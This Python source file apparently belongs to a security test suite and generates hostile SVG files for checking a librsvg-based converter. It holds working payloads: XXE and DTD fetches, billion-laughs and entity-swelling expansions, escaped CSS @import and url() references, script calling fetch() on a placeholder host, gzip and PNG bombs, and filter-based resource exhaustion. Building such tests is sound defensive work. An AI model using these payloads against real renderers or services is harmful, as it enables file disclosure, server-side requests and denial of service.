"""SVG that refers elsewhere, multiplies or asks for endless work (librsvg)."""

from __future__ import annotations

import gzip
from base64 import b64encode
from pathlib import Path

from hostile.attack import OK, REFUSED, Make, fill, row
from hostile.attacks.pictures import chunk, png
from hostile.packing import MB, zeros
from hostile.traps import Traps

_SIZE = 'width="64" height="64"'
_ALL = f"{_SIZE} x='0' y='0'"
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_DOTS = "M0 0" + "l1 1 1-1" * 50_000


def svg(inside: str, *, head: str = "", size: str = _SIZE) -> str:
    return (
        f'{head}<svg xmlns="http://www.w3.org/2000/svg" {size} '
        f'xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'
    )


def _packed(path: Path, _: Traps) -> None:
    """A gzip, which a renderer may unpack by itself, of a drawing with 64 MB of spaces."""
    path.write_bytes(gzip.compress(svg(" " * 64 * MB).encode(), 1))


def _wide(path: Path, traps: Traps) -> None:
    """In UTF-16, which a search for letters would not find."""
    path.write_bytes(
        fill(
            svg(f'<image {_ALL} href="{{uri.png}}"/>', head='<?xml version="1.0"?>'),
            traps,
            path.stem,
        ).encode("utf-16")
    )


def _inner(kind: str, content: str) -> Make:
    """A picture inside that says it is `kind`, and is a drawing that refers elsewhere."""

    def make(path: Path, traps: Traps) -> None:
        data = b64encode(fill(content, traps, path.stem).encode()).decode()
        path.write_text(svg(f'<image {_ALL} href="data:{kind};base64,{data}"/>'))

    return make


def _embedded(picture: bytes) -> str:
    data = b64encode(picture).decode()
    return svg(f'<image {_ALL} href="data:image/png;base64,{data}"/>' * 4)


def _chain(element: str, reference: str, levels: int = 8, times: int = 10) -> str:
    """Elements that each refer ten times to the one before."""
    last = '<rect id="a0" width="9" height="9"/>'
    return last + "".join(
        f'<{element} id="a{n}">{reference.format(f"a{n - 1}") * times}</{element}>'
        for n in range(1, levels + 1)
    )


def _filter(primitive: str, size: int = 4000, times: int = 1) -> str:
    """A filter of a larger area than what it is used on."""
    one = f'<filter id="f" x="-9" y="-9" width="99" height="99">{primitive}</filter>'
    return one + f'<rect width="{size}" height="{size}" filter="url(#f)"/>' * times


_LARGE = 'width="4000" height="4000"'
_TILE = (
    '<pattern id="p{}" width=".01" height=".01" patternUnits="userSpaceOnUse">'
    '<rect width="9" height="9" fill="{}"/></pattern>'
)

ATTACKS = (
    row("svg-image-file", "svg > png pdf", svg(f'<image {_ALL} href="{{uri.png}}"/>'), *REFUSED),
    row("svg-image-path", "svg > png", svg(f'<image {_ALL} xlink:href="{{file.png}}"/>'), *REFUSED),
    row("svg-image-near", "svg > png", svg(f'<image {_ALL} href="../../secret.png"/>'), *REFUSED),
    row("svg-image-http", "svg > png webp", svg(f'<image {_ALL} href="{{http}}.png"/>'), *REFUSED),
    row("svg-image-case", "svg > png", svg(f'<image {_ALL} href=" FILE:{{file.png}}"/>'), *REFUSED),
    row("svg-image-entity", "svg > png",
        svg(f'<image {_ALL} href="&#102;ile://{{file.png}}"/>'), *REFUSED),
    row("svg-image-base", "svg > png",
        svg(f'<image {_ALL} xml:base="file://{{folder}}/" href="secret.png"/>'), *REFUSED),
    row("svg-image-utf16", "svg > png", _wide, *REFUSED),
    row("svg-use-file", "svg > png", svg('<use href="{uri.xml}#a"/>'), *REFUSED),
    row("svg-sheet-file", "svg > png",
        svg("<rect/>", head='<?xml-stylesheet type="text/css" href="{uri.css}"?>'), *REFUSED),
    row("svg-sheet-http", "svg > png",
        svg("<rect/>", head='<?xml-stylesheet type="text/css" href="{http}.css"?>'), *REFUSED),
    row("svg-import", "svg > png", svg('<style>@import url("{http}.css");</style>'), *REFUSED),
    row("svg-import-escaped", "svg > png",
        svg(r"<style>@\69 mport '{http}.css';</style>"), *REFUSED),
    row("svg-import-escaped-file", "svg > png",
        svg(r"<style>@im\p\00006Frt url({uri.css});</style>"), *REFUSED),
    row("svg-url-escaped", "svg > png",
        svg(r'<rect width="9" height="9" style="fill: u\72l({http}#a); mask:\75rl({uri.xml}#a)"/>'),
        *REFUSED),
    row("svg-font", "svg > png", svg("<style>@font-face {{ font-family: x; src: url({http}) }}"
        "</style><text font-family='x'>x</text>"), *REFUSED),
    row("svg-xinclude", "svg > png pdf",
        svg('<text y="20"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{uri}" '
            'parse="text"/></text>'), *REFUSED),
    row("svg-xxe", "svg > png pdf", svg('<text y="20">&leak;</text>',
        head='<!DOCTYPE svg [<!ENTITY leak SYSTEM "{uri}">]>'), *REFUSED),
    row("svg-xxe-parameter", "svg > png", svg("<rect/>",
        head='<!DOCTYPE svg [<!ENTITY % p SYSTEM "{http}"> %p;]>')),
    row("svg-dtd-http", "svg > png", svg("<rect/>", head='<!DOCTYPE svg SYSTEM "{http}.dtd">')),
    row("svg-laughs", "svg > png", svg("<text>&l9;</text>",
        head=f'<!DOCTYPE svg [<!ENTITY l0 "ha">{_LAUGHS}]>'), *REFUSED),
    row("svg-entity-href", "svg > png pdf", svg(f'<image {_ALL} href="&a;"/>&b;',
        head="<!DOCTYPE svg [<!ENTITY a '{uri.png}'><!ENTITY b '<image href=\"{http}.png\"/>'>]>"),
        *REFUSED),
    row("svg-entity-swell", "svg > png",
        svg(f"<text>{'&a;' * 100_000}</text>",
            head=f"<!DOCTYPE svg [<!ENTITY a '{'x' * 1_000}'>]>"), *REFUSED),
    row("svg-script", "svg > png pdf",
        svg('<script href="#x">fetch("{http}")</script><g onload="fetch(\'{http}\')"/>'
            f'<rect {_SIZE}/><a href="{{http}}"><rect {_SIZE}/></a>'), OK),
    row("svg-foreign", "svg > png pdf",
        svg('<foreignObject width="64" height="64"><iframe xmlns="http://www.w3.org/1999/xhtml" '
            'src="{uri}"/><img xmlns="http://www.w3.org/1999/xhtml" src="{http}.png"/><object '
            f'xmlns="http://www.w3.org/1999/xhtml" data="{{uri}}"/></foreignObject>'
            f"<rect {_SIZE}/>"), OK),
    row("svg-animated-href", "svg > png",
        svg(f'<image {_ALL}><set attributeName="href" to="{{uri.png}}"/><animate '
            f'attributeName="xlink:href" values="{{http}};{{http}}"/></image><rect {_SIZE}/>'), OK),
    row("svg-inner", "svg > png",
        _inner("image/svg+xml", svg(f'<image {_ALL} href="{{uri.png}}"/>')), *REFUSED),
    row("svg-inner-disguised", "svg > png pdf",
        _inner("image/png", svg(f'<image {_ALL} href="{{uri.png}}"/><image {_ALL} '
            'href="{http}.png"/>'))),
    row("svg-inner-html", "svg > png",
        _inner("text/html", '<img src="{uri.png}"><img src="{http}">'), *REFUSED),
    row("svg-inner-bomb", "svg > png",
        _embedded(png(60_000, 60_000, chunk(b"IDAT", zeros(60_000 * 7_501)), depth=1))),
    row("svg-inner-lies", "svg > png", _embedded(png(2**31 - 1, 2**31 - 1))),
    row("svg-uses", "svg > png", svg(_chain("g", '<use href="#{}"/>') + '<use href="#a8"/>'),
        *REFUSED),
    row("svg-patterns", "svg > png",
        svg("".join(f'<pattern id="a{n}" width="9" height="9"><rect width="9" height="9" '
                    f'fill="url(#a{n - 1})"/><rect width="9" height="9" fill="url(#a{n - 1})"/>'
                    "</pattern>" for n in range(1, 30))
            + f'<rect {_SIZE} fill="url(#a29)"/>'), *REFUSED),
    row("svg-pattern-tiny", "svg > png",
        svg(_TILE.format(0, "red") + _TILE.format(1, "url(#p0)")
            + f'<rect {_LARGE} fill="url(#p1)"/>', size=_LARGE)),
    row("svg-markers", "svg > png",
        svg(f'<marker id="m"><path d="{_DOTS}" style="marker: url(#n)"/></marker><marker id="n">'
            f'<path d="{_DOTS}"/></marker><path d="{_DOTS}" style="marker: url(#m)"/>')),
    row("svg-layers", "svg > png",
        svg('<g opacity=".9">' * 900 + f"<rect {_LARGE}/>" + "</g>" * 900,
            size='width="16000" height="16000"')),
    row("svg-deep", "svg > png", svg("<g>" * 100_000 + "</g>" * 100_000), *REFUSED),
    row("svg-size", "svg > png", svg("<rect/>", size='width="2000000000" height="2000000000"')),
    row("svg-size-odd", "svg > png jpg",
        svg("<rect/>", size='width="1e400" height="-5" viewBox="0 0 1e-300 1e300"')),
    row("svg-units", "svg > png", svg("<rect/>", size='width="99999999%" height="1e30in"')),
    row("svg-blur", "svg > png",
        svg(_filter('<feGaussianBlur stdDeviation="1e9 1e9"/>', times=9), size=_LARGE)),
    row("svg-noise", "svg > png",
        svg(_filter('<feTurbulence baseFrequency="9" numOctaves="2000000000"/>',
            size=300))),
    row("svg-morphology", "svg > png",
        svg(_filter('<feMorphology radius="100000"/>', size=200))),
    row("svg-kernel", "svg > png",
        svg(_filter(f'<feConvolveMatrix order="500" kernelMatrix="{"1 " * 250_000}"/>'),
            size=_LARGE)),
    row("svg-dashes", "svg > png",
        svg('<path d="M0 0H1e9V1e9H-1e9z" stroke="red" stroke-width="9" '
            'stroke-dasharray=".00001"/>')),
    row("svg-text", "svg > png",
        svg(f'<text font-size="1e9" textLength="1">{"x" * 20_000}</text>'
            f"<text>{'&#x202e;&#x1f3f4;&#x300;' * 1_000}</text>")),
    row("svg-attributes", "svg > png",
        svg("<g " + " ".join(f'a{n}="{n}"' for n in range(100_000)) + "/>")),
    row("svg-selectors", "svg > png",
        svg(f"<style>{'* * * * * * * * rect {{fill: red}}' * 2_000}</style>"
            + "<g>" * 500 + "<rect/>" * 2_000 + "</g>" * 500)),
    row("svg-gzip-bomb", "svg > png", _packed, *REFUSED),
)  # fmt: skip
